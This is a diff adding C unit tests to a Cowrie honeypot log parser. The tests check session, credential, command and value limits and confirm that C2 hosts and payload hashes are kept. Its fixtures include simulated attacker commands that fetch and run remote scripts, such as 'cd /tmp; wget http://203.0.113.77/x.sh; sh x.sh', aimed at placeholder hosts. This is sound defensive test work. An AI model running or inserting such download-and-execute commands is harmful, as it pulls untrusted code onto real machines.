@@ -839,19 +839,222 @@ test_real_file(void **state)
     free(path);
 }
 
+/* -------------------------------------------------------------------------------------------
+    The limits: what they keep out is counted per kind, and the evidence they would lose is
+    kept. The big inputs are generated here. */
+
+/*  Feeds one well-formed event: eventid, src_ip, session, the time as secs (< 28 days)
+    after 2020-01-01T00:00:00Z, then extra JSON members (",\"input\":..." or ""). */
+static void
+s_feed_ev(cowrie_t *cw, const char *eventid, const char *ip, const char *session, long secs,
+          const char *extra, uint64_t line_no)
+{
+    assert_true(secs >= 0 && secs < 28L * 86400);
+    char ts[96];
+    snprintf(ts, sizeof ts, "2020-01-%02ldT%02ld:%02ld:%02ldZ", 1 + secs / 86400, secs / 3600 % 24,
+             secs / 60 % 60, secs % 60);
+    char *line = xasprintf("{\"eventid\":\"%s\",\"src_ip\":\"%s\",\"session\":\"%s\","
+                           "\"timestamp\":\"%s\"%s}",
+                           eventid, ip, session, ts, extra);
+    assert_int_equal(cowrie_feed(cw, line, strlen(line), line_no), 0);
+    free(line);
+}
+
+/*  The sum of every drop counter. */
+static uint64_t
+s_dropped_total(const cowrie_t *cw)
+{
+    uint64_t n = 0;
+    for (int k = 0; k < COWRIE_DROP_KINDS; k++) {
+        n += cowrie_dropped(cw, (cowrie_drop_t)k);
+    }
+    return n;
+}
+
+/*  One source with OBS_MAX_SESSIONS + 1 Cowrie sessions: the last is dropped and counted
+    once (however many events it has), and the split of the first session's two phases is
+    not made (it would pass OBS_MAX_SESSIONS cadre sessions): the observation stays valid,
+    and every kept Cowrie session still has a cadre session. */
+static void
+test_limit_sessions(void **state)
+{
+    (void)state;
+    cowrie_t *cw = cowrie_new(NULL);
+    uint64_t no = 0;
+    char id[32];
+    for (long i = 0; i <= OBS_MAX_SESSIONS; i++) {
+        snprintf(id, sizeof id, "s%ld", i);
+        s_feed_ev(cw, "cowrie.login.failed", "10.0.0.1", id, i,
+                  ",\"username\":\"root\",\"password\":\"x\"", ++no);
+    }
+    s_feed_ev(cw, "cowrie.command.input", "10.0.0.1", "s0", 2 * OBS_MAX_SESSIONS,
+              ",\"input\":\"uname -a\"", ++no);
+    snprintf(id, sizeof id, "s%d", OBS_MAX_SESSIONS);
+    s_feed_ev(cw, "cowrie.command.input", "10.0.0.1", id, 2 * OBS_MAX_SESSIONS + 1,
+              ",\"input\":\"wget http://198.51.100.1/a\"", ++no);
+    s_got_t got = {0};
+    assert_int_equal(cowrie_finish(cw, s_collect, &got), 0);
+    assert_int_equal(got.checked, 0);
+    assert_int_equal(cowrie_sessions(cw), OBS_MAX_SESSIONS);
+    assert_int_equal(cowrie_dropped(cw, COWRIE_DROP_SESSIONS), 1);
+    assert_int_equal(got.n, 1);
+    const obs_t *o = got.obs[0];
+    assert_int_equal(o->n_sessions, OBS_MAX_SESSIONS);
+    assert_string_equal(o->sessions[0].id, "s0");
+    assert_int_equal(o->sessions[0].phase, UKC_CREDENTIAL_ACCESS);
+    assert_int_equal(o->sessions[0].n_commands, 1); /* joined the run before */
+    assert_string_equal(o->sessions[OBS_MAX_SESSIONS - 1].id, "s99999");
+    assert_int_equal(cowrie_dropped(cw, COWRIE_DROP_SPLITS), 1);
+    assert_int_equal(s_dropped_total(cw), 2);
+    assert_string_equal(cowrie_drop_name(COWRIE_DROP_SESSIONS), "sessions");
+    assert_string_equal(cowrie_drop_name(COWRIE_DROP_SPLITS), "splits");
+    assert_null(cowrie_drop_name(COWRIE_DROP_KINDS));
+    s_got_clear(&got);
+    cowrie_destroy(&cw);
+}
+
+/*  OBS_MAX_ITEMS + 1 credential pairs in one run: one is dropped and counted. */
+static void
+test_limit_credentials(void **state)
+{
+    (void)state;
+    cowrie_t *cw = cowrie_new(NULL);
+    char extra[96];
+    for (long i = 0; i <= OBS_MAX_ITEMS; i++) {
+        snprintf(extra, sizeof extra, ",\"username\":\"root\",\"password\":\"p%ld\"", i);
+        s_feed_ev(cw, "cowrie.login.failed", "10.0.0.2", "c", i / 10, extra, (uint64_t)i + 1);
+    }
+    s_got_t got = {0};
+    assert_int_equal(cowrie_finish(cw, s_collect, &got), 0);
+    assert_int_equal(got.checked, 0);
+    assert_int_equal(got.obs[0]->n_sessions, 1);
+    assert_int_equal(got.obs[0]->sessions[0].n_creds, OBS_MAX_ITEMS);
+    assert_int_equal(cowrie_dropped(cw, COWRIE_DROP_CREDENTIALS), 1);
+    assert_int_equal(s_dropped_total(cw), 1);
+    s_got_clear(&got);
+    cowrie_destroy(&cw);
+}
+
+/*  200,001 echo commands, then a wget naming a C2 host (twice), its download, and a
+    tunnel: past the session's event limit the commands' text is dropped and counted, but
+    the C2 host and the payload hash are kept (once each), and a .failed repeating its
+    input line is no extra drop. */
+static void
+test_limit_commands_keep_c2(void **state)
+{
+    (void)state;
+    cowrie_t *cw = cowrie_new(NULL);
+    const long n_echo = (long)COWRIE_MAX_EVENTS + 1;
+    char extra[96];
+    uint64_t no = 0;
+    for (long i = 0; i < n_echo; i++) {
+        snprintf(extra, sizeof extra, ",\"input\":\"echo %ld\"", i);
+        s_feed_ev(cw, "cowrie.command.input", "10.0.0.3", "e", i / 100, extra, ++no);
+    }
+    long t = n_echo / 100 + 1;
+    const char *wget = ",\"input\":\"cd /tmp; wget http://203.0.113.77/x.sh; sh x.sh\"";
+    s_feed_ev(cw, "cowrie.command.input", "10.0.0.3", "e", t, wget, ++no);
+    s_feed_ev(cw, "cowrie.command.failed", "10.0.0.3", "e", t, wget, ++no);
+    s_feed_ev(cw, "cowrie.session.file_download", "10.0.0.3", "e", t + 1,
+              ",\"shasum\":\"feedc0de\",\"url\":\"http://203.0.113.77/x.sh\"", ++no);
+    s_feed_ev(cw, "cowrie.command.input", "10.0.0.3", "e", t + 2, wget, ++no);
+    s_feed_ev(cw, "cowrie.session.file_download", "10.0.0.3", "e", t + 3,
+              ",\"shasum\":\"feedc0de\",\"url\":\"http://203.0.113.77/x.sh\"", ++no);
+    s_feed_ev(cw, "cowrie.direct-tcpip.request", "10.0.0.3", "e", t + 4, "", ++no);
+    s_got_t got = {0};
+    assert_int_equal(cowrie_finish(cw, s_collect, &got), 0);
+    assert_int_equal(got.checked, 0);
+    const obs_t *o = got.obs[0];
+    const char *c2 = NULL, *hash = NULL;
+    size_t commands = 0;
+    for (size_t i = 0; i < o->n_sessions; i++) {
+        c2 = c2 ? c2 : o->sessions[i].c2;
+        hash = hash ? hash : o->sessions[i].payload_hash;
+        commands += o->sessions[i].n_commands;
+    }
+    assert_non_null(c2);
+    assert_string_equal(c2, "203.0.113.77");
+    assert_non_null(hash);
+    assert_string_equal(hash, "feedc0de");
+    assert_int_equal(o->sessions[0].phase, UKC_EXECUTION);
+    assert_int_equal(o->sessions[0].n_commands, OBS_MAX_ITEMS);
+    assert_int_equal(o->sessions[1].phase, UKC_COMMAND_AND_CONTROL);
+    assert_string_equal(o->sessions[1].c2, "203.0.113.77");
+    /* Kept: 200,000 echo events (100,000 of them listed); dropped: 100,000 listed past
+       OBS_MAX_ITEMS, the last echo and both wgets (their text), the repeated download,
+       the tunnel. */
+    assert_int_equal(commands, OBS_MAX_ITEMS);
+    assert_int_equal(cowrie_dropped(cw, COWRIE_DROP_COMMANDS),
+                     (uint64_t)(n_echo - OBS_MAX_ITEMS) + 2);
+    assert_int_equal(cowrie_dropped(cw, COWRIE_DROP_EVENTS), 2);
+    assert_int_equal(s_dropped_total(cw), (uint64_t)(n_echo - OBS_MAX_ITEMS) + 4);
+    s_got_clear(&got);
+    cowrie_destroy(&cw);
+}
+
+/*  Values over their OBS_MAX_* size are dropped and counted; a command too long to keep
+    still gives its C2 host. */
+static void
+test_limit_values(void **state)
+{
+    (void)state;
+    cowrie_t *cw = cowrie_new(NULL);
+    size_t big = OBS_MAX_TEXT + 10;
+    char *pad = xmalloc(big + 1);
+    memset(pad, 'a', big);
+    pad[big] = '\0';
+    char *cmd = xasprintf(",\"input\":\"echo %s; curl -O http://c2.example.net/b\"", pad);
+    char *user = xasprintf(",\"username\":\"%s\",\"password\":\"x\"", pad);
+    char *hash = xasprintf(",\"shasum\":\"%.*s\"", OBS_MAX_SHORT + 1, pad);
+    s_feed_ev(cw, "cowrie.login.failed", "10.0.0.4", "v", 0, user, 1);
+    s_feed_ev(cw, "cowrie.command.input", "10.0.0.4", "v", 1, cmd, 2);
+    s_feed_ev(cw, "cowrie.command.failed", "10.0.0.4", "v", 1, cmd, 3); /* its repeat */
+    s_feed_ev(cw, "cowrie.session.file_upload", "10.0.0.4", "v", 2, hash, 4);
+    s_got_t got = {0};
+    assert_int_equal(cowrie_finish(cw, s_collect, &got), 0);
+    assert_int_equal(got.checked, 0);
+    const obs_t *o = got.obs[0];
+    assert_int_equal(o->n_sessions, 3);
+    assert_int_equal(o->sessions[0].n_creds, 0);
+    assert_int_equal(o->sessions[1].phase, UKC_COMMAND_AND_CONTROL);
+    assert_int_equal(o->sessions[1].n_commands, 0);
+    assert_string_equal(o->sessions[1].c2, "c2.example.net");
+    assert_null(o->sessions[2].payload_hash);
+    assert_int_equal(cowrie_dropped(cw, COWRIE_DROP_VALUES), 3);
+    assert_int_equal(s_dropped_total(cw), 3);
+    s_got_clear(&got);
+    cowrie_destroy(&cw);
+    free(cmd);
+    free(user);
+    free(hash);
+    free(pad);
+}
+
 int
 main(void)
 {
     const struct CMUnitTest tests[] = {
-        cmocka_unit_test(test_parse_time),     cmocka_unit_test(test_mapping),
-        cmocka_unit_test(test_phases),         cmocka_unit_test(test_echo_321_kept),
-        cmocka_unit_test(test_out_of_order),   cmocka_unit_test(test_bad_lines),
-        cmocka_unit_test(test_legacy_hassh),   cmocka_unit_test(test_rule_rows),
-        cmocka_unit_test(test_command_phases), cmocka_unit_test(test_command_c2),
-        cmocka_unit_test(test_split),          cmocka_unit_test(test_event_types),
-        cmocka_unit_test(test_old_schema),     cmocka_unit_test(test_group_sensor),
-        cmocka_unit_test(test_flush_idle),     cmocka_unit_test(test_fatt_join),
+        cmocka_unit_test(test_parse_time),
+        cmocka_unit_test(test_mapping),
+        cmocka_unit_test(test_phases),
+        cmocka_unit_test(test_echo_321_kept),
+        cmocka_unit_test(test_out_of_order),
+        cmocka_unit_test(test_bad_lines),
+        cmocka_unit_test(test_legacy_hassh),
+        cmocka_unit_test(test_rule_rows),
+        cmocka_unit_test(test_command_phases),
+        cmocka_unit_test(test_command_c2),
+        cmocka_unit_test(test_split),
+        cmocka_unit_test(test_event_types),
+        cmocka_unit_test(test_old_schema),
+        cmocka_unit_test(test_group_sensor),
+        cmocka_unit_test(test_flush_idle),
+        cmocka_unit_test(test_fatt_join),
         cmocka_unit_test(test_real_file),
+        cmocka_unit_test(test_limit_sessions),
+        cmocka_unit_test(test_limit_credentials),
+        cmocka_unit_test(test_limit_commands_keep_c2),
+        cmocka_unit_test(test_limit_values),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
